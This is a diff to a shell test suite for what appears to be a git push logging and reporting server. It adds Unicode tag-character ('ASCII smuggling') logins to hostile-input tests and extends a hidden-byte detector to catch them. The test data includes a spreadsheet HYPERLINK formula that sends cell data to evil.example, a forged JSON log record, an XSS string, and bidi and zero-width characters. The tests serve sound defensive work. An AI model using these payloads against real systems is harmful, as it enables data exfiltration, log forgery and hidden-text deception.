@@ -14,6 +14,8 @@ ESC=$'\e'
 # Trojan Source: RLO, LRI..PDI; zero-width: ZWSP, ZWJ, word joiner, BOM
 BIDI=$'\u202e\u2066\u2069'
 ZW=$'\u200b\u200d\u2060\ufeff'
+# "ASCII smuggling": Unicode tag characters render as nothing
+TAGS=$'\U000e0061\U000e0064'
 # a second record, as a naive line-oriented reader would see it (push
 # options and trailers cannot hold a newline: those get FORGED1, one line)
 FORGED=$'"}\n{"decision":"accepted","ref":"refs/heads/main","x":"'
@@ -24,7 +26,7 @@ FORMULA='=HYPERLINK("http://evil.example/?"&A1,"ok")'
 # hidden FILE: raw bytes a terminal acts on or that hide text: C0 but \n
 # and \t, DEL, C1 (raw or as UTF-8), bidi controls, zero-width characters
 hidden() {
-	if LC_ALL=C grep -naP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]|\xe2\x81[\xa0-\xa4\xa6-\xa9]|\xef\xbb\xbf|\xd8\x9c' "$1" >"$T/dirty"; then
+	if LC_ALL=C grep -naP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]|\xe2\x81[\xa0-\xa4\xa6-\xa9]|\xef\xbb\xbf|\xd8\x9c|\xf3\xa0[\x80\x81]' "$1" >"$T/dirty"; then
 		echo "      hidden or control bytes in $(basename "$1"):"; od -c "$T/dirty" | head -12 | sed 's/^/      /'
 		return 1
 	fi
@@ -186,13 +188,14 @@ test_hostile_pusher_in_views() {
 	new_repo || return
 	local c u
 	c=$(commit a.txt one)
-	for u in "$XSS" "$FORMULA" "@SUM(1+1)" "+1-2" "-2+3" "ad${BIDI}min" "ad${ZW}min"; do
+	for u in "$XSS" "$FORMULA" "@SUM(1+1)" "+1-2" "-2+3" "ad${BIDI}min" "ad${ZW}min" "ad${TAGS}min"; do
 		REMOTE_USER=$u git -C "$W" push origin "$c:refs/heads/test" >"$T/out" 2>&1 && fail "accepted for '$u'"
 		check "'$u': remote lines are clean" hidden "$(remote_lines)"
 	done
 	views_safe "pushers" "$(last_push_id)"
 	check "the chart names the login escaped" grep -qF '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1' "$T/report.html"
 	check "the zero-width login is visible" grep -qF 'ad\u200b\u200d\u2060\ufeffmin' "$T/list"
+	check "the tag-character login is visible" grep -qF 'ad\U000e0061\U000e0064min' "$T/list"
 }
 
 # a solution version and name from the exported XML: the version column
